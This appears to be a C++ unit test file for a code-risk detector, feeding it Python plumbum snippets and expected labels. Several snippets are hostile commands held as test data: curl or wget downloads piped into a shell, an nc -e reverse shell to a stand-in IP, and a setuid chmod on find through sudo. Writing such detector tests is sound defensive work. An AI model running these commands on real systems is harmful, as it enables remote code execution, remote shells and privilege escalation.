// plumbum's command objects (issue 14, fifth round): local["curl"] and
// plumbum.cmd.curl are commands, cmd[args] binds arguments (a bound command
// inlined), a | b is a pipeline, and a call, .run()/.popen() or `& FG` runs
// the line through the shell model. Strings here are never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {


TEST(Plumbum, BoundCommandsPipelinesAndRuns) {
  const Case cases[] = {
      {"download piped into bash, called", B,
       "from plumbum import local\ncurl = local['curl']\nbash = local['bash']\n"
       "(curl['-fsSL', 'http://203.0.113.8/x.sh'] | bash)()\n",
       "REMOTE-CODE-EXECUTION"},
      {"a pipeline kept in a variable and .run()", B,
       "from plumbum import local\nchain = local['wget']['-qO-', 'http://198.51.100.7/p'] | local['sh']\nchain.run()\n",
       "REMOTE-CODE-EXECUTION"},
      {"& FG runs it", B,
       "from plumbum import local, FG\nget = local['curl']['-s', 'http://x.example/i.sh']\n(get | local['sh']) & FG\n",
       "REMOTE-CODE-EXECUTION"},
      {"a reverse shell through nc -e, arguments bound at the call", B,
       "from plumbum import local\nnc = local['nc']\nnc('-e', '/bin/sh', '203.0.113.9', '4444')\n", "REVERSE-SHELL"},
      {"sudo with a bound command inlined", H,
       "from plumbum import local\nsudo = local['sudo']\nsudo[local['chmod']['4755', '/usr/bin/find']]()\n",
       "PRIVILEGE-ESCALATION"},
      {"plumbum.cmd names with underscores are the dashed programs", H,
       "from plumbum.cmd import sudo, apt_get\nsudo[apt_get['install', '-y', 'nmap']]()\n", "SYSTEM-ADMINISTRATION"},
      {"a popen of a bound command from a dict of commands", B,
       "from plumbum import local\nTOOLS = {'fetch': local['curl']['-s', 'http://203.0.113.2/k'], 'run': local['python3']}\n"
       "p = (TOOLS['fetch'] | TOOLS['run']).popen()\n",
       "REMOTE-CODE-EXECUTION"},
      {"an ordinary git command is a process run", M,
       "from plumbum import local\ngit = local['git']\nprint(git['log', '--oneline', '-5']())\n", "RUNS-PROCESS"},
      {"a command bound and never run does nothing", L,
       "from plumbum import local\nls = local['ls']['-l']\nprint(ls)\n", nullptr},
      {"x[a, b] on a dict still reads its keys", L, "d = {'a': 1}\nprint(d['a'])\n", nullptr},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
